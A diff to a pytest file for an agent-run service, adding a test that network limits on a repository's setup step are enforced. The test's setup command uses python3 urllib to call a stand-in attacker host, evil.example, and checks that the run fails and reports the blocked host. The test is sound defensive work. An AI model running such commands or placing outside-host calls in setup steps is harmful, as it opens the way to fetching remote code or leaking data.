@@ -1,6 +1,8 @@
-"""What a run may reach: chosen by its repository, allowed by the server, and what was in the way is told."""
+"""What a run may reach, and what was reached before it: chosen by its repository, allowed by the server."""
 
 from __future__ import annotations
+
+import json
 
 import pytest
 
@@ -38,3 +40,22 @@ def test_a_host_that_the_server_does_not_allow_is_refused_before_anything_runs(
 
     assert "`network.allow` names `packages.example.org`, which this server does not allow" in world.answers()
     assert world.ledger.runs.open() == ()
+
+
+def test_a_setup_may_reach_what_the_run_may_not(strict_stage: StrictStage) -> None:
+    """Before the code is there; its failure ends the run with its own words and with what was in the way."""
+    world = strict_stage.world()
+    install = "python3 -c 'import urllib.request as r; r.urlopen(\"https://evil.example/x\")'"
+    setup = (
+        f"  reads: [README.md]\n  run: [ls, {json.dumps(install)}]\n  network: {{allow: [registry.example]}}"
+    )
+    world.configures(f"setup:\n{setup}\n")
+    world.comments("/agent run `true`")
+
+    run = world.run_ends()
+
+    assert run.state is RunState.FAILED
+    assert run.reason.startswith("`setup` failed: `python3 -c 'import urllib")
+    assert "`network: {allow: [registry.example, evil.example]}` would allow it." in run.reason
+    assert "Setup: `ls` was done in " in world.page(run, "/log.txt")
+    assert [str(step.state) for step in run.steps] == ["skipped", "skipped"]
